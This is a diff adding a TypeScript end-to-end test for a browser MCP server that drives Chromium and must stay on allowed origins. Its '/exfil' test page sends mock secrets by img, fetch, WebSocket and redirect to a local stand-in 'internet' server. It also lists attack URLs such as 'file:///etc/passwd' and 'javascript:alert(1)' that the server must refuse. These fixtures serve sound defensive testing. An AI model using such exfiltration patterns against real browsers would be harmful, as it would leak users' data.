@@ -1,0 +1,379 @@
+/**
+ * The browser MCP server end to end: a real MCP client spawns `mcp/browser/main.ts`,
+ * which drives Debian's Chromium against a small app this test serves (dev-login
+ * route, login form, a page that logs errors, a button, pages that try to leave the
+ * origin). A second server on another port stands for "the internet": it must never
+ * see a request. Screenshots land in test-artifacts/browser/.
+ */
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type IncomingMessage, type Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
+import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
+import { browserSettingsSchema } from '../../lib/mcp/browser-settings.ts';
+import { OriginPolicy } from '../../mcp/browser/origins.ts';
+import { repoRoot, waitFor } from '../support/helpers.ts';
+
+const CHROMIUM = '/usr/bin/chromium';
+const ARTIFACTS = join(repoRoot, 'test-artifacts/browser');
+const ENTERPRISE_PASSWORD = `pw-${process.pid}-${Date.now()}`;
+
+async function listen(server: Server): Promise<string> {
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return `http://127.0.0.1:${(server.address() as { port: number }).port}`;
+}
+
+async function closeServer(server: Server): Promise<void> {
+  server.closeAllConnections();
+  await new Promise<void>((r) => server.close(() => r()));
+}
+
+function cookieRole(req: IncomingMessage): string | undefined {
+  return /(?:^|;\s*)role=([\w-]+)/.exec(req.headers.cookie ?? '')?.[1];
+}
+
+async function body(req: IncomingMessage): Promise<string> {
+  let s = '';
+  for await (const chunk of req) s += String(chunk);
+  return s;
+}
+
+/** The app under test; `seen` records the role cookie of every request by path. */
+function testApp(outside: () => string, seen: Array<{ path: string; role?: string }>): Server {
+  const page = (title: string, html: string) => `<!doctype html><title>${title}</title><body>${html}</body>`;
+  return createServer((req, res) => {
+    void (async () => {
+      const url = new URL(req.url ?? '/', 'http://app');
+      const role = cookieRole(req);
+      seen.push({ path: `${req.method} ${url.pathname}`, role });
+      const html = (status: number, s: string, headers: Record<string, string> = {}) =>
+        res.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(s);
+      const redirect = (to: string, cookie?: string) =>
+        res.writeHead(302, { location: to, ...(cookie ? { 'set-cookie': `role=${cookie}; Path=/; HttpOnly` } : {}) }).end();
+      switch (`${req.method} ${url.pathname}`) {
+        case 'GET /':
+          return html(200, page(`Home — ${role ?? 'anonymous'}`, `<p id="whoami">${role ? `Logged in as ${role}` : 'Not logged in'}</p>`));
+        case 'GET /dev-login':
+          return redirect('/', url.searchParams.get('role') ?? 'nobody');
+        case 'GET /login':
+          return html(200, page('Sign in', '<form method="post" action="/login"><input id="email" name="email"><input id="password" name="password" type="password"><button type="submit">Sign in</button></form>'));
+        case 'POST /login': {
+          const form = new URLSearchParams(await body(req));
+          const ok = form.get('email') === 'ent@example.test' && form.get('password') === ENTERPRISE_PASSWORD;
+          return ok ? redirect('/', 'enterprise') : html(401, page('Bad credentials', 'bad credentials'));
+        }
+        case 'GET /errors':
+          return html(200, page('Errors', "<script>alert('alert from the test page'); console.error('console error from the test page'); throw new Error('uncaught error from the test page');</script>"));
+        case 'GET /click':
+          return html(200, page('Click me', `<button id="go" style="width:300px;height:100px">Go</button><p id="status">waiting</p>
+<script>document.getElementById('go').addEventListener('click', () => {
+  document.getElementById('status').textContent = 'clicked'; document.title = 'Clicked';
+  document.body.style.background = '#c00'; console.log('button clicked');
+});</script>`));
+        case 'GET /exfil':
+          return html(200, page('Exfil', `<img src="${outside()}/img?secret=1"><img src="/redirect-img">
+<script>fetch('${outside()}/fetch?secret=2').catch((e) => console.log('fetch failed: ' + e.message));
+new WebSocket('${outside().replace('http', 'ws')}/ws?secret=4');</script>`));
+        case 'GET /redirect-img':
+          return redirect(`${outside()}/img-redirect?secret=5`);
+        case 'GET /redirect-out':
+          return redirect(`${outside()}/landing?secret=3`);
+        default:
+          return html(404, page('Not found', 'not found'));
+      }
+    })();
+  });
+}
+
+/** The highest entry number in a browser_console_logs result (0 when there is none). */
+function lastEntry(logs: string): number {
+  return Math.max(0, ...[...logs.matchAll(/^#(\d+) /gm)].map((m) => Number(m[1])));
+}
+
+function textOf(r: CallToolResult): string {
+  return r.content.map((c) => (c.type === 'text' ? c.text : `[${c.type}]`)).join('\n');
+}
+
+/** Width and height from a PNG's IHDR chunk, after checking the 8-byte signature. */
+function pngSize(png: Buffer): { width: number; height: number } {
+  assert.deepEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'PNG signature');
+  assert.equal(png.toString('latin1', 12, 16), 'IHDR');
+  return { width: png.readUInt32BE(16), height: png.readUInt32BE(20) };
+}
+
+/** PIDs of live processes whose command line names `needle` (Chromium's user-data-dir). */
+function pidsWith(needle: string): number[] {
+  const pids: number[] = [];
+  for (const d of readdirSync('/proc')) {
+    if (!/^\d+$/.test(d)) continue;
+    try {
+      if (readFileSync(`/proc/${d}/cmdline`, 'utf8').includes(needle)) pids.push(Number(d));
+    } catch {
+      // The process exited while we looked.
+    }
+  }
+  return pids;
+}
+
+interface Spawned {
+  client: Client;
+  transport: StdioClientTransport;
+  stderr: () => string;
+  call: (name: string, args?: Record<string, unknown>) => Promise<CallToolResult>;
+}
+
+async function spawnServer(args: string[], env: Record<string, string>): Promise<Spawned> {
+  const transport = new StdioClientTransport({
+    command: process.execPath,
+    args: ['--import', 'tsx', 'mcp/browser/main.ts', ...args],
+    cwd: repoRoot,
+    env: { ...(process.env as Record<string, string>), ...env },
+    stderr: 'pipe',
+  });
+  let err = '';
+  transport.stderr?.on('data', (d: Buffer) => (err += d.toString()));
+  const client = new Client({ name: 'browser-test', version: '0.0.0' });
+  await client.connect(transport);
+  const call = async (name: string, a: Record<string, unknown> = {}) => (await client.callTool({ name, arguments: a })) as CallToolResult;
+  return { client, transport, stderr: () => err, call };
+}
+
+describe('browser settings and origin policy', () => {
+  it('parses {} with every default and normalizes origins', () => {
+    const s = browserSettingsSchema.parse({});
+    assert.equal(s.chromiumPath, '/usr/bin/chromium');
+    assert.deepEqual([s.origins, s.roles, s.headless, s.maxConsoleEntries], [[], {}, true, 200]);
+    assert.deepEqual(browserSettingsSchema.parse({ origins: ['http://127.0.0.1:4101/'] }).origins, ['http://127.0.0.1:4101']);
+  });
+
+  it('rejects origins with paths, other schemes, and roles without exactly one login method', () => {
+    for (const origins of [['http://127.0.0.1:4101/app'], ['file:///tmp'], ['not a url']]) {
+      assert.equal(browserSettingsSchema.safeParse({ origins }).success, false, JSON.stringify(origins));
+    }
+    const form = { url: '/login', fields: {}, submit: 'button' };
+    assert.equal(browserSettingsSchema.safeParse({ roles: { a: { description: 'x' } } }).success, false);
+    assert.equal(browserSettingsSchema.safeParse({ roles: { a: { description: 'x', loginUrl: '/l', form } } }).success, false);
+    assert.equal(browserSettingsSchema.safeParse({ roles: { a: { description: 'x', form: { ...form, fields: { '#p': { env: 'lower' } } } } } }).success, false);
+  });
+
+  it('resolves paths to the first origin and refuses everything off-origin, naming the allowed ones', () => {
+    const p = new OriginPolicy(['http://127.0.0.1:4101', 'http://127.0.0.1:4201']);
+    assert.equal(p.resolve('/x?y=1').href, 'http://127.0.0.1:4101/x?y=1');
+    assert.equal(p.resolve('/x', 'http://127.0.0.1:4201/a').href, 'http://127.0.0.1:4201/x');
+    assert.equal(p.resolve('about:blank').href, 'about:blank');
+    assert.ok(p.allows('ws://127.0.0.1:4101/socket'));
+    assert.ok(p.allowsAuthority('127.0.0.1', '4201') && !p.allowsAuthority('127.0.0.1', '4301'));
+    for (const bad of ['http://127.0.0.1:4301/', 'https://127.0.0.1:4101/', '//evil.test/x', 'file:///etc/passwd', 'javascript:alert(1)', 'data:text/html,x']) {
+      assert.throws(() => p.resolve(bad), /allowed origins: http:\/\/127\.0\.0\.1:4101, http:\/\/127\.0\.0\.1:4201/, bad);
+    }
+  });
+
+  it('main.ts exits 2 naming the bad setting', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'bugbot-browser-settings-'));
+    try {
+      writeFileSync(join(dir, 's.json'), JSON.stringify({ origins: ['http://127.0.0.1:1/app'], bogus: 1 }));
+      const r = spawnSync(process.execPath, ['--import', 'tsx', 'mcp/browser/main.ts', '--settings', join(dir, 's.json')], { cwd: repoRoot, encoding: 'utf8', input: '' });
+      assert.equal(r.status, 2, r.stderr);
+      assert.match(r.stderr, /not a bare http\(s\) origin/);
+      assert.match(r.stderr, /bogus/);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('browser MCP server against real Chromium', () => {
+  const seen: Array<{ path: string; role?: string }> = [];
+  const outsideHits: string[] = [];
+  // "The internet": any request, tunnel or upgrade reaching it is a leak.
+  const outside = createServer((req, res) => {
+    outsideHits.push(`${req.method} ${req.url}`);
+    res.end('leaked');
+  });
+  outside.on('connect', (req, socket) => {
+    outsideHits.push(`CONNECT ${req.url}`);
+    socket.destroy();
+  });
+  outside.on('upgrade', (req, socket) => {
+    outsideHits.push(`UPGRADE ${req.url}`);
+    socket.destroy();
+  });
+  let outsideOrigin = '';
+  const app = testApp(() => outsideOrigin, seen);
+  let appOrigin = '';
+  let tmp = '';
+  let server: Spawned;
+  let userDataDir = '';
+
+  before(async () => {
+    assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing: apt-get install chromium (or run scripts/install-test-deps.sh)`);
+    outsideOrigin = await listen(outside);
+    appOrigin = await listen(app);
+    tmp = mkdtempSync(join(tmpdir(), 'bugbot-browser-test-'));
+    mkdirSync(ARTIFACTS, { recursive: true });
+    const form = { url: '/login', fields: { '#email': 'ent@example.test', '#password': { env: 'BUGBOT_TEST_ENTERPRISE_PASSWORD' } }, submit: 'button[type=submit]' };
+    const settings = {
+      viewport: { width: 800, height: 600 },
+      actionTimeoutMs: 1_500,
+      roles: {
+        free: { description: 'free plan user', loginUrl: '/dev-login?role=free', expect: 'text=Logged in as free' },
+        enterprise: { description: 'enterprise admin', form, expect: '#whoami >> text=Logged in as enterprise' },
+        'no-secret': { description: 'password variable unset', form: { ...form, fields: { '#password': { env: 'BUGBOT_TEST_UNSET_PASSWORD' } } } },
+        'wrong-proof': { description: 'login that does not show its proof', loginUrl: '/dev-login?role=free', expect: 'text=Logged in as someone else' },
+      },
+    };
+    writeFileSync(join(tmp, 'browser.json'), JSON.stringify(settings));
+    // TMPDIR puts Chromium's user-data-dir under tmp, so /proc can tell our Chromium apart.
+    server = await spawnServer(['--settings', join(tmp, 'browser.json'), '--origin', appOrigin], {
+      TMPDIR: tmp,
+      BUGBOT_TEST_ENTERPRISE_PASSWORD: ENTERPRISE_PASSWORD,
+    });
+  });
+
+  after(async () => {
+    await server?.client.close();
+    await closeServer(app);
+    await closeServer(outside);
+    if (tmp) rmSync(tmp, { recursive: true, force: true });
+  });
+
+  it('lists five tools with honest annotations', async () => {
+    const { tools } = await server.client.listTools();
+    const byName = new Map(tools.map((t) => [t.name, t.annotations]));
+    assert.deepEqual([...byName.keys()].sort(), ['browser_click', 'browser_console_logs', 'browser_dev_login', 'browser_navigate', 'browser_screenshot']);
+    assert.equal(byName.get('browser_screenshot')?.readOnlyHint, true);
+    assert.equal(byName.get('browser_console_logs')?.readOnlyHint, true);
+    assert.equal(byName.get('browser_click')?.destructiveHint, true);
+    for (const t of tools) assert.equal(t.annotations?.openWorldHint, false, t.name);
+  });
+
+  it('navigates and takes a real PNG screenshot at the configured viewport', async () => {
+    const nav = await server.call('browser_navigate', { url: '/' });
+    assert.ok(!nav.isError, textOf(nav));
+    assert.match(textOf(nav), new RegExp(`Opened ${appOrigin}/ — "Home — anonymous" \\(HTTP 200\\)`));
+    userDataDir = /user-data-dir=(\S+)/.exec(server.stderr())?.[1] ?? '';
+    assert.ok(userDataDir.startsWith(tmp), server.stderr());
+    assert.ok(pidsWith(`--user-data-dir=${userDataDir}`).length > 0, 'a chromium process runs with our user-data-dir');
+
+    const shot = await server.call('browser_screenshot');
+    const image = shot.content.find((c) => c.type === 'image');
+    assert.ok(image && image.type === 'image' && image.mimeType === 'image/png', textOf(shot));
+    const png = Buffer.from(image.data, 'base64');
+    writeFileSync(join(ARTIFACTS, 'home.png'), png);
+    assert.deepEqual(pngSize(png), { width: 800, height: 600 });
+  });
+
+  it('reports console.error and an uncaught page error', async () => {
+    const nav = await server.call('browser_navigate', { url: `${appOrigin}/errors` });
+    assert.match(textOf(nav), /New in browser_console_logs/);
+    const logs = await waitFor(async () => {
+      const t = textOf(await server.call('browser_console_logs'));
+      return t.includes('uncaught error from the test page') ? t : undefined;
+    }, 5_000, 'the page error in browser_console_logs');
+    assert.match(logs, /\[console\.error\] console error from the test page/);
+    assert.match(logs, /\[pageerror\] Error: uncaught error from the test page/);
+    assert.match(logs, /\[dialog\] alert: alert from the test page \(dismissed\)/);
+    assert.match(textOf(await server.call('browser_console_logs', { after: lastEntry(logs) })), /No console messages/);
+  });
+
+  it('clicks a button and the page changes', async () => {
+    await server.call('browser_navigate', { url: '/click' });
+    const beforeShot = await server.call('browser_screenshot');
+    const click = await server.call('browser_click', { selector: '#go' });
+    assert.ok(!click.isError, textOf(click));
+    assert.match(textOf(click), /Clicked #go\. Page: .*\/click — "Clicked"/);
+    const afterShot = await server.call('browser_screenshot');
+    const png = (r: CallToolResult) => Buffer.from((r.content[0] as { data: string }).data, 'base64');
+    writeFileSync(join(ARTIFACTS, 'click-after.png'), png(afterShot));
+    assert.notDeepEqual(png(afterShot), png(beforeShot), 'the click changed what the page shows');
+    assert.match(textOf(await server.call('browser_console_logs')), /button clicked/);
+    const miss = await server.call('browser_click', { selector: '#does-not-exist' });
+    assert.equal(miss.isError, true);
+    assert.match(textOf(miss), /Could not click #does-not-exist/);
+  });
+
+  it('logs in as two roles (dev-login route and form) and the page shows each', async () => {
+    const free = await server.call('browser_dev_login', { role: 'free' });
+    assert.ok(!free.isError, textOf(free));
+    assert.match(textOf(free), /Logged in as 'free' \(free plan user\).*"Home — free"/s);
+    assert.ok(seen.some((s) => s.path === 'GET /' && s.role === 'free'), 'the app served / to the free user');
+
+    const ent = await server.call('browser_dev_login', { role: 'enterprise' });
+    assert.ok(!ent.isError, textOf(ent));
+    assert.match(textOf(ent), /Logged in as 'enterprise' \(enterprise admin\) via the login form.*"Home — enterprise"/s);
+    assert.ok(!textOf(ent).includes(ENTERPRISE_PASSWORD), 'the password is not echoed');
+    const post = seen.findLast((s) => s.path === 'POST /login');
+    assert.equal(post?.role, undefined, "the free user's cookie was cleared before the form login");
+    const shot = await server.call('browser_screenshot');
+    writeFileSync(join(ARTIFACTS, 'enterprise.png'), Buffer.from((shot.content[0] as { data: string }).data, 'base64'));
+  });
+
+  it('refuses unknown roles with the known ones, and says why a login failed', async () => {
+    const unknown = await server.call('browser_dev_login', { role: 'admin' });
+    assert.equal(unknown.isError, true);
+    assert.match(textOf(unknown), /Unknown role 'admin'; known roles: free \(free plan user\); enterprise \(enterprise admin\)/);
+    const noSecret = await server.call('browser_dev_login', { role: 'no-secret' });
+    assert.equal(noSecret.isError, true);
+    assert.match(textOf(noSecret), /BUGBOT_TEST_UNSET_PASSWORD, not set/);
+    const wrong = await server.call('browser_dev_login', { role: 'wrong-proof' });
+    assert.equal(wrong.isError, true);
+    assert.match(textOf(wrong), /text=Logged in as someone else did not appear/);
+  });
+
+  it('refuses off-origin, file:, data: and chrome: navigation, naming the allowed origin', async () => {
+    for (const url of [`${outsideOrigin}/`, 'file:///etc/passwd', 'data:text/html,<h1>x</h1>', 'chrome://version']) {
+      const r = await server.call('browser_navigate', { url });
+      assert.equal(r.isError, true, url);
+      assert.ok(textOf(r).includes(`allowed origins: ${appOrigin}`), textOf(r));
+    }
+  });
+
+  it('blocks and reports off-origin subresources, fetches, WebSockets and redirects', async () => {
+    const mark = lastEntry(textOf(await server.call('browser_console_logs')));
+    await server.call('browser_navigate', { url: '/exfil' });
+    const redirect = await server.call('browser_navigate', { url: '/redirect-out' });
+    assert.equal(redirect.isError, true);
+    assert.match(textOf(redirect), new RegExp(`redirected to ${outsideOrigin}/landing\\?secret=3.*allowed origins: ${appOrigin}`, 's'));
+    const want = ['/img?secret=1', '/fetch?secret=2', '/img-redirect?secret=5', '/landing?secret=3', `WebSocket ws://${outsideOrigin.slice(7)}/ws?secret=4`];
+    const logs = await waitFor(async () => {
+      const t = textOf(await server.call('browser_console_logs', { after: mark }));
+      return want.every((w) => t.includes(w)) ? t : undefined;
+    }, 5_000, `blocked entries for ${want.join(', ')}`);
+    assert.match(logs, /\[blocked\] GET http:\/\/127\.0\.0\.1:\d+\/img\?secret=1 \(image\)/);
+    assert.doesNotMatch(logs, /\[requestfailed\].*ERR_BLOCKED_BY_CLIENT/, 'blocked requests are reported once, as blocked');
+    assert.match(logs, /img-redirect\?secret=5 \(image, redirected from http:\/\/[\d.:]+\/redirect-img; refused by the guard proxy\)/);
+    // The second layer did the refusing for the redirects and the WebSocket.
+    assert.match(server.stderr(), new RegExp(`guard proxy refused (GET|CONNECT) \\S*${outsideOrigin.slice(7)}`));
+    assert.deepEqual(outsideHits, [], 'nothing reached the outside server');
+  });
+
+  it('closes Chromium when the client closes stdin', async () => {
+    assert.ok(userDataDir);
+    await server.client.close();
+    await waitFor(() => pidsWith(`--user-data-dir=${userDataDir}`).length === 0, 10_000, 'chromium to exit');
+    assert.match(server.stderr(), /shutting down \(stdin closed\)/);
+    assert.equal(existsSync(userDataDir), false, `the profile was removed:\n${server.stderr()}`);
+  });
+
+  it('closes Chromium on SIGTERM', async () => {
+    const s = await spawnServer(['--origin', appOrigin], { TMPDIR: tmp });
+    try {
+      assert.ok(!(await s.call('browser_navigate', { url: '/' })).isError);
+      const dir = /user-data-dir=(\S+)/.exec(s.stderr())?.[1] ?? '';
+      assert.ok(pidsWith(`--user-data-dir=${dir}`).length > 0);
+      const pid = s.transport.pid;
+      assert.ok(pid);
+      process.kill(pid, 'SIGTERM');
+      await waitFor(() => pidsWith(`--user-data-dir=${dir}`).length === 0 && !existsSync(`/proc/${pid}`), 10_000, 'server and chromium to exit');
+      assert.match(s.stderr(), /shutting down \(SIGTERM\)/);
+      assert.equal(existsSync(dir), false, 'the profile was removed');
+    } finally {
+      await s.client.close();
+    }
+  });
+});
